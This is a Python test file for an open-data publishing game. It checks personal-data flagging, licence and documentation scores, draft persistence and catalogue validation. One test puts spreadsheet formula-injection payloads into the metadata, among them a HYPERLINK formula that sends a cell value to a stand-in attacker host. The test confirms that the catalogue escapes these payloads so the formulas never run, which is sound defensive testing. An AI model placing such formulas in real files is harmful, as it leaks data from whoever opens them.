"""The publishing desk: the cleaned table published with its metadata, scored on licence,
documentation, publication and personal data, with consequences, and a draft that survives."""

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from game.authoring.check import load_scenario as load_checked
from game.core.operations import operation_from_json
from game.core.tableschema import validate
from game.play.publish import reference_metadata
from game.play.session import ActionRefused, PlaySession
from game.play.state import AttemptState
from game.storage.datasets import ScenarioDatasets
from game.storage.portal import Portal
from game.storage.publisher import PortalPublisher
from game.storage.scenarios import load_scenario
from game.storage.schemas import load_schema

from .test_session import Clock as _Clock
from .test_session import MemoryRecorder


class Clock(_Clock):
    def __init__(self):
        self.t = 1_795_000_000.0  # 20 November 2026: after the period the data covers

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "scenarios"


@pytest.fixture
def scenario():
    return load_scenario(FIX / "publication").scenario


def at_publish(scenario, tmp_path, rec=None, state=None):
    """A session on the fixture, its clean step done with the reference recipe."""
    rec = rec or MemoryRecorder()
    portal = Portal(tmp_path / "portail")
    s = PlaySession(scenario, "Camille", "0b9f1a52-5a53-4d4e-9d59-7a3c0e5d2b11", rec, state, clock=Clock(),
                    datasets=ScenarioDatasets({"publication": FIX / "publication"}),
                    publisher=PortalPublisher(portal, FIX / "publication" / "data"))
    if state is None:
        s.begin()
        for entry in s.step.reference:
            s.clean_apply(operation_from_json(entry))
        s.proceed()
    assert s.step.kind == "publish"
    return s, rec, portal


def reference(s):
    desk = s.publish_work()
    return reference_metadata(desk), tuple(desk.step.reference["drop_columns"])


def test_the_personal_column_is_flagged_before_publishing(scenario, tmp_path):
    s, _rec, _p = at_publish(scenario, tmp_path)
    desk = s.publish_work()
    assert [p.column for p in desk.personal] == ["DECLARANT_COURRIEL"]
    p = s.publish_preview()
    check = next(c for c in p.checks if c.id == "personal-data")
    assert not check.ok and not check.blocking  # possible, but flagged


def test_an_empty_form_cannot_be_published_and_records_nothing(scenario, tmp_path):
    s, rec, portal = at_publish(scenario, tmp_path)
    before = len(rec.calls)
    with pytest.raises(ActionRefused):
        s.publish(s.publish_work().draft)
    assert len(rec.calls) == before and portal.entries("Camille") == []


def test_the_reference_metadata_earn_full_marks_and_write_the_portal(scenario, tmp_path):
    s, rec, portal = at_publish(scenario, tmp_path)
    meta, dropped = reference(s)
    s.publish(meta, dropped)
    scores = s.state.publishing_of("publier")["scores"]
    assert scores == {"licence": 1.0, "documentation": 1.0, "publication": 1.0, "personal-data": 1.0}
    verbs = [st["verb"]["id"].rsplit("/", 1)[1] for st in rec.calls[-1][2]]
    assert verbs == ["progressed"] * 4 + ["shared"]
    folder = Path(portal.entries("Camille")[0]["path"])
    published = (folder / "donnees.csv").read_bytes()
    assert published.startswith(b"COMMUNE_NOM,COLL_INSEE") and b"\r\n" in published
    assert b"exemple.fr" not in published and b"DECLARANT_COURRIEL" not in published
    assert (folder / "notice.pdf").is_file() is False  # the resource has no file: metadata only
    jsonld = json.loads((folder / "metadonnees.jsonld").read_text("utf-8"))
    assert "Rennes" in json.dumps(jsonld, ensure_ascii=False)
    # the catalogue row passes the SCDL catalogue schema with our validator
    from game.storage.csvfile import read_csv

    catalogue = read_csv(folder.parent / "catalogue.csv").table
    assert catalogue.nrows == 1
    report = validate(catalogue, load_schema("scdl/catalogue"))
    assert report.error_count == 0, [e.message for e in report.errors]
    assert s.proceed() == "questions"  # nothing went wrong: the consequence steps are skipped


def test_a_formula_title_is_shown_as_text_in_the_catalogue_which_still_passes_the_scdl_schema(scenario, tmp_path):
    import subprocess
    import sys

    from game.storage.csvfile import read_csv

    s, _rec, portal = at_publish(scenario, tmp_path)
    meta, dropped = reference(s)
    s.publish(replace(meta, title='=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")',
                      description="+SOMME(1;2) puis -1 @cmd"), dropped)
    catalogue = Path(portal.entries("Camille")[0]["path"]).parent / "catalogue.csv"
    table = read_csv(catalogue).table
    row = dict(zip(table.header, next(iter(table.rows())), strict=True))
    # Excel and LibreOffice show a cell starting with « ' » as text: the formula never runs
    assert row["TITRE"] == '\'=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")'
    assert row["DESCRIPTION"] == "'+SOMME(1;2) puis -1 @cmd"
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
    report = validate(table, load_schema("scdl/catalogue"))
    assert report.error_count == 0, [e.message for e in report.errors]
    root = Path(__file__).resolve().parents[2]
    r = subprocess.run([sys.executable, "-m", "game", "validate", "--schema", "scdl/catalogue", str(catalogue)],
                       cwd=root, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and "✔ Le fichier est valide." in r.stdout, r.stdout + r.stderr


def test_publishing_personal_data_leads_to_its_consequence(scenario, tmp_path):
    s, rec, portal = at_publish(scenario, tmp_path)
    meta, _dropped = reference(s)
    s.publish(meta, ())  # the e-mail column stays
    scores = s.state.publishing_of("publier")["scores"]
    assert scores["personal-data"] == 0.0
    shared = rec.calls[-1][2][-1]
    assert shared["result"]["success"] is False
    assert b"exemple.fr" in (Path(portal.entries("Camille")[0]["path"]) / "donnees.csv").read_bytes()
    assert s.proceed() == "fuite"
    assert s.scenario.following("fuite") == "questions"


def test_a_licence_the_decree_does_not_allow_leads_to_its_consequence(scenario, tmp_path):
    s, _rec, _portal = at_publish(scenario, tmp_path)
    meta, dropped = reference(s)
    s.publish(replace(meta, licence="cc-by-nc-4.0"), dropped)
    scores = s.state.publishing_of("publier")["scores"]
    assert scores["licence"] == 0.0
    assert s.proceed() == "licence"


def test_the_second_licence_allowed_earns_half_when_the_scenario_names_the_best(scenario, tmp_path):
    s, _rec, _portal = at_publish(scenario, tmp_path)
    meta, dropped = reference(s)
    s.publish(replace(meta, licence="odbl"), dropped)
    assert s.state.publishing_of("publier")["scores"]["licence"] == 0.5
    assert s.proceed() == "questions"


def test_documentation_score_follows_the_quality_criteria_and_the_title(scenario, tmp_path):
    s, _rec, _portal = at_publish(scenario, tmp_path)
    meta, dropped = reference(s)
    s.publish(replace(meta, title="Prénoms", frequency="", spatial_zone=""), dropped)
    doc = s.state.publishing_of("publier")["scores"]["documentation"]
    assert 0.5 < doc < 1.0


def test_the_draft_survives_a_restart(scenario, tmp_path):
    s, rec, _portal = at_publish(scenario, tmp_path)
    meta, _dropped = reference(s)
    s.publish_save(replace(meta, title="Prénoms à Rennes — brouillon"), ("DECLARANT_COURRIEL",))
    saved = rec.calls[-1][1]
    again, _rec, _p = at_publish(scenario, tmp_path, state=AttemptState.from_json(saved))
    desk = again.publish_work()
    assert desk.draft.title == "Prénoms à Rennes — brouillon"
    assert desk.dropped == ("DECLARANT_COURRIEL",)
    assert any(r.id == "notice" and r.included for r in desk.draft.resources)


def test_check_refuses_reference_metadata_that_miss_full_marks(tmp_path):
    folder = tmp_path / "publication"
    shutil.copytree(FIX / "publication", folder)
    text = (folder / "scenario.yaml").read_text("utf-8")
    text = text.replace("title: Prénoms des enfants nés à Rennes en 2015 et 2016", "title: Les prénoms")
    text = text.replace("      drop_columns: [DECLARANT_COURRIEL]\n", "")
    (folder / "scenario.yaml").write_text(text, "utf-8")
    loaded = load_checked(folder)
    messages = " | ".join(p.message.format_source() for p in loaded.problems)
    assert "ne nomme pas « où »" in messages
    assert "DECLARANT_COURRIEL" in messages
    assert all(p.line for p in loaded.problems)  # located in the file


def test_a_resource_file_gone_missing_is_said_in_french_and_the_portal_is_untouched(tmp_path):
    from game.core.table import Table
    from game.play.services import ServiceError

    portal = Portal(tmp_path / "portail")
    publisher = PortalPublisher(portal, tmp_path / "data")
    with pytest.raises(ServiceError) as raised:
        publisher.publish("Camille", "jeu", table=Table.from_rows(["a"], [["1"]]), metadata={}, summary={},
                          catalogue_header=["ID"], catalogue_row={"ID": "jeu"}, extra_files={"notice.pdf": "notice.pdf"})
    assert raised.value.message.format_source() == ("Le portail n'a pas pu être écrit (fichier ou dossier introuvable). "
                                                    "Votre brouillon est conservé.")
    assert portal.entries("Camille") == []
